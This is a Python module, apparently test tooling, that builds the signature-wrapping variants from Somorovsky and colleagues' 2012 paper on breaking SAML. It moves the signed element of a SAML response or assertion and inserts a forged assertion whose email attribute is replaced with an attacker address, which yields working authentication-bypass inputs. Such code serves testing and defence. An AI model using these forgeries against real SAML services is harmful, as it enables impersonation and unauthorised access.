"""Signature wrapping: the signed element is moved, and a forged one is put in its place.

The variants of Somorovsky and others, “On Breaking SAML: Be Whoever You Want to Be” (2012), figure 5.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as Saml2

Element = etree._Element
EVIL = "lena@velmar.example"


def wrap_response(xml: str, variant: int) -> Element:
    """Return variants 1 and 2, for a signed answer."""
    evil = etree.fromstring(xml)
    original = deepcopy(evil)
    signature = evil.find("ds:Signature", Saml2.NSMAP)
    _take_signature(original)
    evil.set("ID", "_evil")
    _lie(evil)
    if variant == 1:
        signature.append(_object(original))
    else:
        evil.insert(evil.index(signature) + 1, original)
    return evil


def wrap_assertion(xml: str, variant: int) -> Element:
    """Return variants 3 to 8, for a signed assertion."""
    response = etree.fromstring(xml)
    original = response.find("saml:Assertion", Saml2.NSMAP)
    evil = deepcopy(original)
    _lie(evil)
    place = response.index(original)
    if variant in {3, 4, 7}:
        evil.set("ID", "_evil")
        _take_signature(evil)
        if variant == 3:
            response.insert(place, evil)
        elif variant == 4:
            response.replace(original, evil)
            evil.append(original)
        else:
            extensions = etree.Element(f"{{{Saml2.NS_SAMLP}}}Extensions")
            extensions.append(evil)
            response.insert(1, extensions)
        return response
    # The forged element keeps the signature, which refers to the original by its id.
    evil.set("ID", "_evil")
    _take_signature(original)
    response.replace(original, evil)
    if variant == 5:
        response.append(original)
    elif variant == 6:
        evil.find("ds:Signature", Saml2.NSMAP).append(original)
    else:
        evil.find("ds:Signature", Saml2.NSMAP).append(_object(original))
    return response


def with_same_id(xml: str) -> Element:
    """Return an answer in which two assertions have the id that is signed."""
    response = etree.fromstring(xml)
    original = response.find("saml:Assertion", Saml2.NSMAP)
    evil = deepcopy(original)
    _lie(evil)
    response.insert(response.index(original), evil)
    return response


def _lie(element: Element) -> None:
    for value in element.iter(f"{{{Saml2.NS_SAML}}}AttributeValue"):
        if "@" in (value.text or ""):
            value.text = EVIL


def _take_signature(element: Element) -> None:
    signature = element.find("ds:Signature", Saml2.NSMAP)
    element.remove(signature)


def _object(content: Element) -> Element:
    wrapper = etree.Element(f"{{{Saml2.NS_DS}}}Object")
    wrapper.append(content)
    return wrapper


WRAPPINGS: dict[str, tuple[str, Callable[[str], Element]]] = {
    "1": ("response", lambda xml: wrap_response(xml, 1)),
    "2": ("response", lambda xml: wrap_response(xml, 2)),
    **{
        str(variant): ("assertion", lambda xml, variant=variant: wrap_assertion(xml, variant))
        for variant in range(3, 9)
    },
    "same id": ("assertion", with_same_id),
}
